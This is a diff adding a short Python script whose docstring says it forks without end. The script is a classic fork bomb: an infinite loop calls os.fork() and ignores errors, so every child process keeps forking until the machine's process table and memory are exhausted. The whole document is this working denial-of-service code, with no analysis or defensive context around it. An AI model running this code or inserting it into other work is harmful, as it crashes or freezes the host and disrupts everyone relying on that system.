@@ -1,0 +1,9 @@
+"""Forks without end, each child as well."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
